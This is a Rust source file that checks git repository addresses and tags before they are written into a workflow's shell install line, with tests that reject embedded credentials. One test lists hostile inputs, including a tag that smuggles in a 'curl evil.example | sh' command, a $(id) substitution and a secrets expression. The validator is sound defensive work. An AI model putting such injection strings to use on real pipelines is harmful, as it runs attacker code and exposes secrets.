//! Where a workflow gets the program from.

use crate::text::{short_hash, slug};
use std::str::FromStr;

/// A version of the program in a git repository.
#[derive(Debug, Clone, PartialEq, Eq)]
pub(super) struct GitSource {
    url: String,
    revision: String,
}

impl FromStr for GitSource {
    type Err = String;

    /// Reads `https://github.com/me/briefing#v0.1.0`. Both parts are written into a line that a shell runs, so nothing is
    /// taken that a shell would see anything in.
    fn from_str(text: &str) -> Result<Self, String> {
        let (url, revision) = text.split_once('#').unwrap_or((text, ""));
        let plain = |text: &str, signs: &str| text.chars().all(|c| c.is_ascii_alphanumeric() || signs.contains(c));
        let host = url.strip_prefix("https://").or_else(|| url.strip_prefix("ssh://"));
        if !host.is_some_and(|host| host.starts_with(|c: char| c.is_ascii_alphanumeric())) || !plain(url, "-._~/:@%+") {
            return Err("it is no address of a git repository; write https://host/path#tag".to_owned());
        }
        // git@github.com is a name that everybody has; one before https:// is somebody's, and so is what follows a colon
        let user = host.and_then(|host| host.split('/').next()?.rsplit_once('@')).map(|(user, _)| user);
        if user.is_some_and(|user| url.starts_with("https://") || user.contains([':', '%'])) {
            let help = "give the runner access to the repository instead, or write ssh://git@host/path#tag";
            return Err(format!("it has a user or a password in it, which the workflow would publish; {help}"));
        }
        if revision.is_empty() {
            return Err(format!("it does not say which version; add a tag or a commit: {url}#v0.1.0"));
        }
        if revision.starts_with(['-', '.', '/']) || !plain(revision, "-._/+") {
            return Err(format!("`{revision}` is no tag and no commit"));
        }
        Ok(Self { url: url.to_owned(), revision: revision.to_owned() })
    }
}

/// How a workflow installs the program, and under which name it keeps it.
#[derive(Debug)]
pub(super) struct Install {
    key: String,
    source: String,
}

impl Install {
    /// From a repository, or the version that is running from the registry.
    pub(super) fn new(source: Option<&GitSource>) -> Self {
        const VERSION: &str = env!("CARGO_PKG_VERSION");
        match source {
            None => Self { key: VERSION.to_owned(), source: format!("--version '={VERSION}'") },
            Some(GitSource { url, revision }) => Self {
                key: format!("{}-{}", slug(revision), short_hash(&format!("{url}#{revision}"), 8)),
                source: format!("--git '{url}' --rev '{revision}'"),
            },
        }
    }

    /// Writes it into the text of a workflow.
    pub(super) fn fill_in(&self, text: &str) -> String {
        text.replace("@KEY@", &self.key).replace("@SOURCE@", &self.source)
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn repositories_come_with_a_version() {
        let source: GitSource = "https://github.com/me/briefing.git#v0.1.0".parse().expect("an address");
        let install = Install::new(Some(&source));
        assert_eq!(install.source, "--git 'https://github.com/me/briefing.git' --rev 'v0.1.0'");
        assert!(install.key.starts_with("v0-1-0-"), "{}", install.key);
        let other: GitSource = "https://github.com/you/briefing#v0.1.0".parse().expect("an address");
        assert_ne!(install.key, Install::new(Some(&other)).key, "another repository is another program");
    }

    #[test]
    fn credentials_are_not_published() {
        for url in ["https://me:token@host/a", "https://token@host/a", "ssh://git:word@host/a", "https://a%3Ab@host/a"]
        {
            assert!(format!("{url}#v1").parse::<GitSource>().is_err(), "{url}");
        }
        assert!("ssh://git@github.com/me/briefing#v1".parse::<GitSource>().is_ok());
        assert!("https://github.com/me/a@b#v1".parse::<GitSource>().is_ok());
    }

    #[test]
    fn nothing_is_taken_that_a_shell_would_see_anything_in() {
        for text in [
            "https://github.com/me/briefing",
            "https://github.com/me/briefing#",
            "https://github.com/me/briefing#--path=.",
            "https://github.com/me/briefing#v1'; curl evil.example | sh; '",
            "https://github.com/me/$(id)#v1",
            "https://#v1",
            "github.com/me/briefing#v1",
            "file:///etc#v1",
            "https://github.com/me/briefing#${{ secrets.X }}",
            "",
        ] {
            assert!(text.parse::<GitSource>().is_err(), "{text}");
        }
    }
}
